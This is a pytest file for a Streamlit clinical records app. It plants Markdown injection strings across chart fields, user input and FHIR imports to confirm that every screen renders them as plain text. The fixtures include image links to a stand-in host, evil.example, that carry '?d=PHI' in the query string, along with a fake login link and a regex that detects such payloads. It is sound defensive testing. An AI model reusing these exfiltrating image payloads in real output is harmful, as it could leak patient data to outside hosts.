"""Text the app did not write (chart, FHIR import, what a user types, the model) shows as text on every
screen: nothing in it loads an image or opens a link (`core.safety.shown` at each call site)."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import duckdb
import pytest
from streamlit.testing.v1 import AppTest

from core import auth, summaries
from core.config import Settings
from core.models import Actor
from core.service import Practice
from tests.pages.conftest import PASSWORDS

CLIENT = "C1001"


def hostile(tag: str) -> str:
    """Every way text can carry an image or a link into Markdown: an image, a link, an autolink, bare
    http(s):// and www. addresses and an e-mail address; `tag` says which field it came from."""
    return (
        f"![{tag}](https://evil.example/{tag}.png?d=PHI) [{tag} link](https://evil.example/{tag}) "
        f"<https://evil.example/{tag}/auto> https://evil.example/{tag}/bare www.evil.example/{tag} "
        f"{tag}@evil.example"
    )


# A draft or summary as a model or a clinician may write it: clinical Markdown that must still render,
# and sentences with an unsupported number (947), so the checks panel quotes them.
BODY = (
    "## Identifying context\n\n"
    "**Zoë** attended weekly sessions; see https://evil.example/body and www.evil.example/body.\n\n"
    "- Mood improved over 947 sessions ![s](https://evil.example/s.png?d=PHQ-9) per https://evil.example/s\n"
    "- Contact body@evil.example or [the portal](https://evil.example/login)\n"
)

# What Markdown would turn into an image or a link: image and link openers, link reference definitions,
# autolinks, and the GFM autolink literals (http(s)://, www., e-mail addresses).
RENDERABLE = re.compile(r"!\[|\]\(|\]\[|\]:|<[a-z][a-z0-9+.-]*:|https?://|www\.|[\w.+-]@[\w-]", re.IGNORECASE)

# Proto fields Streamlit renders as Markdown: element bodies, labels (widgets, expanders, tabs, metrics),
# option labels, tooltips and progress texts. Elements that show plain text (st.text, st.code, data
# frames, charts, the draft editor component) are left out: nothing in them renders as Markdown.
MARKDOWN_FIELDS = {"body", "label", "options", "content", "text", "help", "captions", "default_tab_label"}
PLAIN_ELEMENTS = {"text", "code", "html", "json", "exception", "arrow_data_frame", "vega_lite_chart"}


def markdown_strings(at: AppTest) -> Iterator[tuple[str, str]]:
    """(element type.field, value) of every string the page renders as Markdown."""

    def fields(message: Any, path: str) -> Iterator[tuple[str, str]]:
        for f, value in message.ListFields():
            values = value if f.is_repeated else [value]
            for v in values:
                if f.type == f.TYPE_MESSAGE:
                    yield from fields(v, f"{path}.{f.name}")
                elif f.type == f.TYPE_STRING and f.name in MARKDOWN_FIELDS:
                    yield f"{path}.{f.name}", v

    def walk(node: Any) -> Iterator[tuple[str, str]]:
        proto = getattr(node, "proto", None)
        kind = getattr(node, "type", "")
        if proto is not None and hasattr(proto, "ListFields") and kind not in PLAIN_ELEMENTS:
            if kind != "bidi_component" and not str(kind).startswith("component"):
                yield from fields(proto, str(kind))
        for child in getattr(node, "children", {}).values():
            yield from walk(child)

    yield from walk(at._tree)


def renderable(at: AppTest) -> list[tuple[str, str]]:
    """The rendered Markdown strings in which an image or a link would render."""
    return [(where, v) for where, v in markdown_strings(at) if RENDERABLE.search(v)]


def rendered(at: AppTest, tag: str) -> list[str]:
    """The rendered Markdown strings that show the text of field `tag` (so a check is not vacuous)."""
    return [v for _, v in markdown_strings(at) if f"evil.example/{tag}" in v.replace("\u2060", "")]


def actor(app_db: Path, user: str) -> tuple[Practice, Actor]:
    p = Practice.open(Settings(db_path=app_db), demo_data=False)
    return p, auth.actor_of(p, p.store.user(user))


@pytest.fixture
def hostile_chart(app_db: Path) -> Path:
    """C1001 with hostile text in every field the screens show: name, first name, pronouns, diagnoses (one
    resolved), plan goals and interventions, a medication and the progress and intake notes."""
    con = duckdb.connect(str(app_db))
    try:
        con.execute(
            "UPDATE clients SET full_name = ?, first_name = ?, pronouns = ? WHERE id = ?",
            [f"Zoë Ñúñez {hostile('name')}", f"Zoë {hostile('first')}", f"she/her {hostile('pronouns')}", CLIENT],
        )
        con.execute(
            "UPDATE diagnoses SET description = description || ' ' || ? WHERE client_id = ?", [hostile("dx"), CLIENT]
        )
        con.execute("UPDATE diagnoses SET resolved = onset WHERE id = 'D00002'")
        con.execute(
            "UPDATE treatment_plans SET goals = list_append(goals, ?), interventions = list_append(interventions, ?)"
            " WHERE client_id = ?",
            [f"Sleep seven hours {hostile('goal')}", f"Sleep hygiene {hostile('intervention')}", CLIENT],
        )
        con.execute(
            "UPDATE notes SET text = text || ? WHERE client_id = ? AND note_type IN ('progress', 'intake')",
            [f"\n\nClient shared a link: {hostile('note')}.", CLIENT],
        )
        con.execute(
            "INSERT INTO medications VALUES (?, ?, ?, '50 mg daily', ?, NULL, 'active', 'Dana Whitfield')",
            ["M-HOSTILE", CLIENT, f"Sertraline {hostile('med')}", date.today() - timedelta(days=90)],
        )
    finally:
        con.close()
    return app_db


def draft(app_db: Path, purpose: str = "", text: str | None = None) -> str:
    """A draft of the last 6 months made in core (the offline engine), its text replaced by `text`."""
    p, ruth = actor(app_db, "ruth")
    today = p.today()
    d = summaries.generate(p, ruth, CLIENT, today - timedelta(days=182), today, purpose).draft
    if text is not None:
        summaries.save(p, ruth, d.id, text, base_revision=None)
    return d.id


def signed(app_db: Path, purpose: str, text: str = BODY, share: bool = False) -> str:
    """A signed summary (with a shared-to-portal flag), returning a portal access code when shared."""
    p, ruth = actor(app_db, "ruth")
    d = draft(app_db, purpose)
    s = summaries.sign(p, ruth, d, text=text, password=PASSWORDS["ruth"])
    if not share:
        return s.id
    summaries.share(p, ruth, s.id)
    return summaries.issue_portal_token(p, ruth, CLIENT)


def client_page(app, client: str = CLIENT, tab: str = "Chart") -> AppTest:
    at = app()
    at.query_params["client"] = client
    at.query_params["tab"] = tab
    return at.switch_page("pages/client.py").run()


def test_clients_list_shows_a_search_as_text(app, hostile_chart):
    at = app().run()
    at.text_input(key="client_search").input(hostile("search")).run()
    assert not at.exception
    assert "No client matches" in at.info[0].value and rendered(at, "search")
    assert renderable(at) == []


def test_chart_tab_shows_chart_text_as_text(app, hostile_chart):
    signed(hostile_chart, f"Transfer {hostile('signedpurpose')}")
    draft(hostile_chart, f"Consultation {hostile('purpose')}")
    at = client_page(app)
    assert not at.exception
    assert renderable(at) == []
    for tag in ("name", "pronouns", "dx", "goal", "intervention", "signedpurpose", "purpose"):
        assert rendered(at, tag), tag
    assert at.title[0].value.startswith("Zoë Ñúñez name")  # the image is reduced to its alt text


def test_an_unknown_client_in_the_address_is_quoted_as_text(app, hostile_chart):
    at = client_page(app, client=hostile("address"))
    assert not at.exception
    assert "No client with id" in at.error[0].value and rendered(at, "address")
    assert renderable(at) == []


def test_purpose_typed_into_the_draft_form(app, hostile_chart):
    at = client_page(app, tab="Summary")
    at.get("menu_button")[0].click("Treatment Summary").run()
    at.text_input(key=f"purpose:{CLIENT}").input(f"Transfer of care {hostile('typed')}").run()
    at.button(key=f"generate:{CLIENT}").click().run()
    assert not at.exception and not at.error
    assert renderable(at) == []
    chart = client_page(app)
    assert rendered(chart, "typed")
    assert renderable(chart) == []


def test_summary_tab_checks_panel_and_signed_summary(app, hostile_chart):
    signed(hostile_chart, f"Transfer {hostile('signedpurpose')}")
    draft(hostile_chart, text=BODY)
    at = client_page(app, tab="Summary")
    assert not at.exception
    quoted = [w.value for w in at.warning if w.value.startswith("Not in the sources")]
    assert quoted and any("947" in q and "evil.example/s" in q.replace("\u2060", "") for q in quoted)
    assert any(i.value.startswith("Not mentioned: plan goal — Sleep seven hours goal") for i in at.info)
    assert rendered(at, "signedpurpose") and rendered(at, "body")
    body = next(m.value for m in at.markdown if m.value.startswith("## Identifying context"))
    assert "**Zoë**" in body and "\n- Mood improved" in body  # heading, bold and list still render
    assert renderable(at) == []


def test_quality_lab_shows_the_draft_and_its_checks_as_text(app, hostile_chart):
    d = draft(hostile_chart, text=BODY)
    at = app()
    at.switch_page("pages/quality_lab.py").run()
    p, _ = actor(hostile_chart, "ruth")
    at.selectbox(key="lab_client").set_value(next(r for r in p.store.client_rows() if r.id == CLIENT)).run()
    assert not at.exception
    assert rendered(at, "pronouns") and rendered(at, "name")  # the generated version quotes the chart
    assert renderable(at) == []
    at.selectbox(key="lab_target").set_value(("draft", d, 2, "Draft version 2 (edited)")).run()
    assert not at.exception
    assert rendered(at, "body") and rendered(at, "s") and rendered(at, "goal")
    assert [m.label for m in at.metric][:3] == ["Unsupported facts", "Coverage", "Leaks"]
    assert renderable(at) == []


def test_portal_shows_a_shared_summary_as_text(app, hostile_chart):
    token = signed(hostile_chart, "Discharge", share=True)
    at = app(None)
    at.query_params["token"] = token
    at.switch_page("pages/portal.py").run()
    assert not at.exception
    assert renderable(at) == []
    assert at.subheader[0].value.startswith("Hello, Zoë first")
    assert rendered(at, "body") and rendered(at, "first")
    body = next(m.value for m in at.markdown if m.value.startswith("## Identifying context"))
    assert "**Zoë**" in body and "\n- Mood improved" in body  # heading, bold and list still render


def test_audit_log_shows_a_typed_client_id_as_text(app, hostile_chart):
    at = app()
    at.switch_page("pages/audit.py").run()
    at.text_input(key="audit_client").input(hostile("audit")).run()
    assert not at.exception
    assert rendered(at, "audit")
    assert renderable(at) == []


def fhir_bundle() -> dict:
    """One patient whose name, pronouns, diagnosis and medication carry hostile text."""
    pt = "urn:uuid:hostile-patient"
    pronouns = {"valueCodeableConcept": {"text": f"they/them {hostile('fhirpronouns')}"}}
    resources = [
        (
            pt,
            {
                "resourceType": "Patient",
                "id": "hostile-patient",
                "birthDate": "1990-02-03",
                "name": [{"use": "official", "family": f"Rivera {hostile('fhirfamily')}", "given": ["Sol"]}],
                "extension": [
                    {
                        "url": "http://hl7.org/fhir/StructureDefinition/individual-pronouns",
                        "extension": [{"url": "value", **pronouns}],
                    }
                ],
            },
        ),
        (
            "urn:uuid:hostile-condition",
            {
                "resourceType": "Condition",
                "id": "hostile-condition",
                "subject": {"reference": pt},
                "onsetDateTime": "2024-03-05",
                "code": {
                    "text": f"Generalized anxiety disorder {hostile('fhirdx')}",
                    "coding": [{"system": "http://hl7.org/fhir/sid/icd-10-cm", "code": "F411"}],
                },
            },
        ),
    ]
    return {
        "resourceType": "Bundle",
        "type": "collection",
        "entry": [{"fullUrl": u, "resource": r} for u, r in resources],
    }


def test_fhir_import_report_and_chart_show_imported_text_as_text(app, app_db):
    at = app()
    at.switch_page("pages/import_fhir.py").run()
    upload = ("hostile.json", json.dumps(fhir_bundle()).encode(), "application/json")
    at.file_uploader(key="fhir_files").set_value(upload).run()
    at.button(key="fhir_import").click().run()
    assert not at.exception and not at.error
    assert rendered(at, "fhirfamily")
    assert renderable(at) == []
    p = Practice.open(Settings(db_path=app_db), demo_data=False)
    [client] = [c for c in p.store.client_rows() if c.id.startswith("F-")]
    chart = client_page(app, client=client.id)
    assert not chart.exception
    assert rendered(chart, "fhirfamily") and rendered(chart, "fhirpronouns")
    assert renderable(chart) == []
